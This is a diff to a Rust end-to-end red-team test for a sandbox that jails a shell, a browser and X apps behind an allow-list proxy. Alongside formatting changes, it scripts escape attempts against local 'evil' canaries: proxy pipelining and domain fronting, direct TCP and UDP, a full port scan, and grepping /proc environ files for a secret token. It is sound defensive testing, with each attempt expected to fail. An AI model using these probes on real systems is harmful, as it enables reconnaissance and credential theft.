@@ -126,7 +126,10 @@ impl Team {
             Ok(BashReply::Restarted) => "(restarted)".to_owned(),
             Err(e) => {
                 let text = e.text();
-                let _ = self.bash.run(BashInput::Restart, &CancellationToken::new()).await;
+                let _ = self
+                    .bash
+                    .run(BashInput::Restart, &CancellationToken::new())
+                    .await;
                 format!("(bash tool error) {text}")
             }
         }
@@ -158,12 +161,21 @@ impl Team {
         let canaries = std::iter::once(&self.evil).chain(&self.forbidden);
         canaries
             .zip(&self.marks)
-            .flat_map(|(c, from)| c.since(*from).into_iter().map(|s| format!("{}: {s}", c.name)))
+            .flat_map(|(c, from)| {
+                c.since(*from)
+                    .into_iter()
+                    .map(|s| format!("{}: {s}", c.name))
+            })
             .collect()
     }
 
     /// Records a row: it holds when the attempt says so and no forbidden canary heard a thing.
-    async fn row(&mut self, kind: &'static str, attempt: impl Into<String>, (held, evidence): (bool, String)) {
+    async fn row(
+        &mut self,
+        kind: &'static str,
+        attempt: impl Into<String>,
+        (held, evidence): (bool, String),
+    ) {
         // Anything late (a relayed connection) reaches the canary within this.
         tokio::time::sleep(Duration::from_millis(50)).await;
         let hits = self.forbidden_hits();
@@ -224,10 +236,18 @@ fn red_team_e2e_every_attempt_holds() {
         .enable_all()
         .build()
         .expect("runtime");
-    runtime.block_on(attack(token));
+    // /proc/<pid>/environ shows the environment a process was started with: this child, started
+    // with the secret like hands is by its caller, is the one a jailed program would read.
+    let mut holder = std::process::Command::new("/bin/sleep")
+        .arg("120")
+        .spawn()
+        .expect("sleep");
+    runtime.block_on(attack(token, holder.id()));
+    let _ = holder.kill();
+    let _ = holder.wait();
 }
 
-async fn attack(token: String) {
+async fn attack(token: String, holder: u32) {
     let started = Instant::now();
     let allowed = Canary::tcp("allowed 127.0.0.1", "127.0.0.1:0", true);
     let evil = Canary::tcp("evil 127.0.0.1", "127.0.0.1:0", true);
@@ -266,12 +286,18 @@ async fn attack(token: String) {
         inherit: Inherit::Nothing,
         env: Jail::base_env()
             .into_iter()
-            .map(|(k, v)| (k.to_string_lossy().into_owned(), v.to_string_lossy().into_owned()))
+            .map(|(k, v)| {
+                (
+                    k.to_string_lossy().into_owned(),
+                    v.to_string_lossy().into_owned(),
+                )
+            })
             .collect(),
         timeout: Duration::from_secs(30),
         ..BashConfig::default()
     };
-    bash.env.push(("DISPLAY".into(), desktop.display().to_owned()));
+    bash.env
+        .push(("DISPLAY".into(), desktop.display().to_owned()));
     // The browser in a sibling jail (sandbox.rs `browser_launcher`, run.rs).
     let mut driver_config = DriverConfig {
         policy: Arc::new(RequestAllowList(list)),
@@ -293,13 +319,34 @@ async fn attack(token: String) {
         rows: Vec::new(),
     };
     t.mark();
+    // Control: the forbidden canaries record what reaches them (the host reaches them all).
+    for canary in std::iter::once(&t.evil).chain(&t.forbidden) {
+        let payload = format!("host control {token}");
+        if canary.name.starts_with("udp") {
+            let socket = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
+            let _ = socket.send_to(payload.as_bytes(), canary.addr);
+        } else if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", canary.port())) {
+            use std::io::Write as _;
+            let _ = stream.write_all(payload.as_bytes());
+        }
+    }
+    tokio::time::sleep(Duration::from_millis(600)).await;
+    let hits = t.forbidden_hits();
+    t.rows.push(Row {
+        kind: "control",
+        attempt: "host: every forbidden canary records a connection or datagram".into(),
+        held: hits.len() == 1 + t.forbidden.len()
+            && hits.iter().all(|h| h.contains("host control")),
+        evidence: short(&format!("{hits:?}")).replace(&token, "<TOKEN>"),
+    });
+    t.mark();
     let mut browser = browser.await.expect("Chromium in the browser jail");
 
     through_the_proxy(&mut t).await;
     around_the_proxy(&mut t).await;
     at_the_browser(&mut t, &mut browser).await;
     from_an_x_app(&mut t, &desktop).await;
-    at_hands_environment(&mut t).await;
+    at_hands_environment(&mut t, holder).await;
 
     drop(browser);
     report(&t.rows, started);
@@ -320,7 +367,10 @@ async fn through_the_proxy(t: &mut Team) {
     t.control(
         "the allowed origin through the proxy (urllib, proxy variables)",
         (
-            o.contains(ALLOWED_BODY) && seen.iter().any(|s| s.contains(&format!("GET /ctl-{tok} HTTP/1.1"))),
+            o.contains(ALLOWED_BODY)
+                && seen
+                    .iter()
+                    .any(|s| s.contains(&format!("GET /ctl-{tok} HTTP/1.1"))),
             short(&format!("{o} — allowed canary saw {seen:?}")),
         ),
     )
@@ -328,7 +378,9 @@ async fn through_the_proxy(t: &mut Team) {
     if let Ok(o) = which_curl(t).await {
         let before = t.allowed.count();
         let out = t
-            .sh(&format!("{o} -sS --max-time 10 http://127.0.0.1:{a}/curl-{tok}"))
+            .sh(&format!(
+                "{o} -sS --max-time 10 http://127.0.0.1:{a}/curl-{tok}"
+            ))
             .await;
         let seen = t.allowed.since(before);
         t.control(
@@ -418,12 +470,8 @@ async fn through_the_proxy(t: &mut Team) {
         let answer = t.raw(proxy, &request, None).await;
         let (held, evidence) = refused(&answer, rule);
         let logged = t.refusals_since(before);
-        t.row(
-            "proxy",
-            attempt,
-            (held && !logged.is_empty(), evidence),
-        )
-        .await;
+        t.row("proxy", attempt, (held && !logged.is_empty(), evidence))
+            .await;
     }
 
     // Pipelining: an allowed request, then one to evil on the same connection.
@@ -442,7 +490,10 @@ async fn through_the_proxy(t: &mut Team) {
                 && seen.len() == 1
                 && seen[0].contains(&format!("GET /first-{tok} HTTP/1.1"))
                 && !seen[0].contains("second"),
-            short(&format!("{} — allowed canary saw {seen:?}", answer.lines().next().unwrap_or(""))),
+            short(&format!(
+                "{} — allowed canary saw {seen:?}",
+                answer.lines().next().unwrap_or("")
+            )),
         ),
     )
     .await;
@@ -462,7 +513,10 @@ async fn through_the_proxy(t: &mut Team) {
             answer.starts_with("HTTP/1.1 200 OK")
                 && seen.len() == 1
                 && seen[0].ends_with("3\r\nabc\r\n0\r\n\r\n"),
-            short(&format!("{} — allowed canary saw {seen:?}", answer.lines().next().unwrap_or(""))),
+            short(&format!(
+                "{} — allowed canary saw {seen:?}",
+                answer.lines().next().unwrap_or("")
+            )),
         ),
     )
     .await;
@@ -487,7 +541,10 @@ async fn through_the_proxy(t: &mut Team) {
             answer.starts_with("HTTP/1.1 200 Connection Established")
                 && seen.iter().all(|s| s.ends_with(": "))
                 && logged.iter().any(|l| l.contains("domain fronting")),
-            short(&format!("{} — allowed canary saw {seen:?}; proxy logged {logged:?}", answer.lines().next().unwrap_or(""))),
+            short(&format!(
+                "{} — allowed canary saw {seen:?}; proxy logged {logged:?}",
+                answer.lines().next().unwrap_or("")
+            )),
         ),
     )
     .await;
@@ -507,7 +564,11 @@ async fn through_the_proxy(t: &mut Team) {
         "the allowed tunnel carries a ClientHello without a name",
         (
             seen.len() == 1 && seen[0].len() > "connection from 127.0.0.1:1: ".len() + 40,
-            short(&format!("{} connection(s), {} bytes", seen.len(), seen.first().map(String::len).unwrap_or(0))),
+            short(&format!(
+                "{} connection(s), {} bytes",
+                seen.len(),
+                seen.first().map(String::len).unwrap_or(0)
+            )),
         ),
     )
     .await;
@@ -545,7 +606,13 @@ async fn around_the_proxy(t: &mut Team) {
     let tok = t.token.clone();
     for (what, port) in [("allowed", a), ("evil", e), ("0.0.0.0", z)] {
         let before = t.allowed.count();
-        let o = t.raw(port, format!("GET /direct-{tok} HTTP/1.1\r\n\r\n").as_bytes(), None).await;
+        let o = t
+            .raw(
+                port,
+                format!("GET /direct-{tok} HTTP/1.1\r\n\r\n").as_bytes(),
+                None,
+            )
+            .await;
         let seen = t.allowed.since(before);
         t.row(
             "direct",
@@ -558,8 +625,11 @@ async fn around_the_proxy(t: &mut Team) {
     let mut outs = Vec::new();
     for ip in &ips {
         outs.push(
-            t.sh(&format!("python3 /workspace/raw.py {ip} {z} {}", hex(format!("direct {tok}").as_bytes())))
-                .await,
+            t.sh(&format!(
+                "python3 /workspace/raw.py {ip} {z} {}",
+                hex(format!("direct {tok}").as_bytes())
+            ))
+            .await,
         );
     }
     t.row(
@@ -577,7 +647,10 @@ async fn around_the_proxy(t: &mut Team) {
     t.row(
         "direct",
         "DNS: resolve example.com / example.org (no resolver)",
-        (o.starts_with("failed") && o.contains("getent rc=2"), short(&o)),
+        (
+            o.starts_with("failed") && o.contains("getent rc=2"),
+            short(&o),
+        ),
     )
     .await;
     let udp = t.port("udp 127.0.0.1:53");
@@ -588,7 +661,7 @@ async fn around_the_proxy(t: &mut Team) {
         .await;
     t.row(
         "direct",
-        format!("UDP to 127.0.0.1:53 (and :{udp}, the host's UDP canary)"),
+        format!("UDP to 127.0.0.1:53 and :{udp} (the host's UDP canary is on :{udp})"),
         (!o.contains("ANSWER"), short(&o)),
     )
     .await;
@@ -608,7 +681,10 @@ async fn at_the_browser(t: &mut Team, browser: &mut CdpBrowser) {
     t.control(
         "the jailed browser opens the allowed origin",
         (
-            nav.is_ok() && seen.iter().any(|s| s.contains(&format!("GET /browser-{tok} HTTP/1.1"))),
+            nav.is_ok()
+                && seen
+                    .iter()
+                    .any(|s| s.contains(&format!("GET /browser-{tok} HTTP/1.1"))),
             short(&format!("{nav:?} — {} request(s)", seen.len())),
         ),
     )
@@ -624,7 +700,9 @@ async fn at_the_browser(t: &mut Team, browser: &mut CdpBrowser) {
         "browser",
         format!("the browser itself to the evil port 127.0.0.1:{e}"),
         (
-            blocked.iter().any(|b| b.starts_with(&format!("http://127.0.0.1:{e}"))),
+            blocked
+                .iter()
+                .any(|b| b.starts_with(&format!("http://127.0.0.1:{e}"))),
             short(&format!("{nav:?}; blocked {blocked:?}")),
         ),
     )
@@ -639,12 +717,19 @@ for p in range(1, 65536):
     s = socket.socket()
     s.settimeout(0.0002)
     try:
-        if s.connect_ex(('127.0.0.1', p)) == 0:
+        # A connection from port p to port p is the socket meeting itself (TCP simultaneous
+        # open on an ephemeral port), not a listener.
+        if s.connect_ex(('127.0.0.1', p)) == 0 and s.getsockname()[1] != p:
             found.append(p)
     finally:
         s.close()
 print('OPEN', found)
-\"; for f in /proc/net/tcp /proc/net/tcp6; do awk 'NR>1 && $4==\"0A\" {split($2,a,\":\"); print \"LISTEN\", strtonum(\"0x\" a[2])}' $f; done")
+for f in ('/proc/net/tcp', '/proc/net/tcp6'):
+    for line in open(f).read().splitlines()[1:]:
+        w = line.split()
+        if w[3] == '0A':
+            print('LISTEN', int(w[1].rsplit(':', 1)[1], 16))
+\"")
         .await;
     let listen: Vec<&str> = o.lines().filter(|l| l.starts_with("LISTEN")).collect();
     t.row(
@@ -698,20 +783,38 @@ print('OPEN', found)
         "browser",
         "host: no process of the browser's tree listens on TCP",
         (
-            tree.len() >= 3 && listening.is_empty() && cmdline.contains("--remote-debugging-pipe") && !cmdline.contains("--remote-debugging-port"),
-            format!("{} processes, listening {listening:?}; browser netns listens on {:?}", tree.len(), netns_listening.iter().map(|(_, p)| p).collect::<Vec<_>>()),
+            tree.len() >= 3
+                && listening.is_empty()
+                && cmdline.contains("--remote-debugging-pipe")
+                && !cmdline.contains("--remote-debugging-port"),
+            format!(
+                "{} processes, listening {listening:?}; browser netns listens on {:?}",
+                tree.len(),
+                netns_listening.iter().map(|(_, p)| p).collect::<Vec<_>>()
+            ),
         ),
     )
     .await;
-    let their_ns = std::fs::read_link(format!("/proc/{pid}/ns/net")).map(|p| p.display().to_string()).unwrap_or_default();
+    let their_ns = std::fs::read_link(format!("/proc/{pid}/ns/net"))
+        .map(|p| p.display().to_string())
+        .unwrap_or_default();
     let ours = t.sh("readlink /proc/self/ns/net").await;
-    let host_ns = std::fs::read_link("/proc/self/ns/net").map(|p| p.display().to_string()).unwrap_or_default();
+    let host_ns = std::fs::read_link("/proc/self/ns/net")
+        .map(|p| p.display().to_string())
+        .unwrap_or_default();
     t.row(
         "browser",
         "browser jail, desktop jail and host: three network namespaces",
         (
-            their_ns.starts_with("net:[") && ours.trim().starts_with("net:[") && their_ns != ours.trim() && their_ns != host_ns && ours.trim() != host_ns,
-            format!("browser {their_ns}, desktop {}, host {host_ns}", ours.trim()),
+            their_ns.starts_with("net:[")
+                && ours.trim().starts_with("net:[")
+                && their_ns != ours.trim()
+                && their_ns != host_ns
+                && ours.trim() != host_ns,
+            format!(
+                "browser {their_ns}, desktop {}, host {host_ns}",
+                ours.trim()
+            ),
         ),
     )
     .await;
@@ -780,7 +883,9 @@ os.rename('/workspace/xapp.tmp', '/workspace/xapp.out')
     t.control(
         "an X app on the jail's display reaches the allowed origin through the proxy",
         (
-            out.contains("DISPLAY-OK :") && out.contains(&format!("ALLOWED {ALLOWED_BODY}")) && seen.iter().any(|s| s.contains(&format!("/xapp-{tok}"))),
+            out.contains("DISPLAY-OK :")
+                && out.contains(&format!("ALLOWED {ALLOWED_BODY}"))
+                && seen.iter().any(|s| s.contains(&format!("/xapp-{tok}"))),
             short(&out),
         ),
     )
@@ -789,8 +894,15 @@ os.rename('/workspace/xapp.tmp', '/workspace/xapp.out')
         "x-app",
         "the X app: TCP straight to the host's loopback canaries",
         (
-            out.contains(&format!("DIRECT-REFUSED {a}")) && out.contains(&format!("DIRECT-REFUSED {e}")) && !out.contains("DIRECT-CONNECTED"),
-            short(&out.lines().filter(|l| l.starts_with("DIRECT")).collect::<Vec<_>>().join(" | ")),
+            out.contains(&format!("DIRECT-REFUSED {a}"))
+                && out.contains(&format!("DIRECT-REFUSED {e}"))
+                && !out.contains("DIRECT-CONNECTED"),
+            short(
+                &out.lines()
+                    .filter(|l| l.starts_with("DIRECT"))
+                    .collect::<Vec<_>>()
+                    .join(" | "),
+            ),
         ),
     )
     .await;
@@ -798,14 +910,20 @@ os.rename('/workspace/xapp.tmp', '/workspace/xapp.out')
         "x-app",
         "the X app: the evil port through the proxy",
         (
-            out.lines().any(|l| l.starts_with("PROXY HTTP/1.1 403 Forbidden | hands policy: ")),
-            short(&out.lines().filter(|l| l.starts_with("PROXY")).collect::<Vec<_>>().join(" | ")),
+            out.lines()
+                .any(|l| l.starts_with("PROXY HTTP/1.1 403 Forbidden | hands policy: ")),
+            short(
+                &out.lines()
+                    .filter(|l| l.starts_with("PROXY"))
+                    .collect::<Vec<_>>()
+                    .join(" | "),
+            ),
         ),
     )
     .await;
 }
 
-async fn at_hands_environment(t: &mut Team) {
+async fn at_hands_environment(t: &mut Team, holder: u32) {
     let tok = t.token.clone();
     let (first, second) = tok.split_at(tok.len() / 2);
     // The token is joined only inside Python, so no command line carries it whole.
@@ -832,15 +950,21 @@ print('READ', n, 'HITS', hits)
         "secrets",
         format!("grep every readable /proc/*/environ and cmdline for {CANARY_ENV}'s value"),
         (
-            o.contains("HITS []") && !o.contains("READ 0 ") && o.trim_end().ends_with("<exit_status>1</exit_status>"),
+            o.contains("HITS []")
+                && !o.contains("READ 0 ")
+                && o.trim_end().ends_with("<exit_status>1</exit_status>"),
             short(&o),
         ),
     )
     .await;
-    let own = std::fs::read("/proc/self/environ").unwrap_or_default();
+    let held = std::fs::read(format!("/proc/{holder}/environ")).unwrap_or_default();
     t.control(
-        format!("host: this process's environment holds {CANARY_ENV}"),
-        (String::from_utf8_lossy(&own).contains(&tok), format!("{} bytes", own.len())),
+        format!("host: {CANARY_ENV} is in this process and readable in its child's /proc environ"),
+        (
+            std::env::var(CANARY_ENV).as_deref() == Ok(tok.as_str())
+                && String::from_utf8_lossy(&held).contains(&tok),
+            format!("{} bytes of /proc/{holder}/environ", held.len()),
+        ),
     )
     .await;
 }
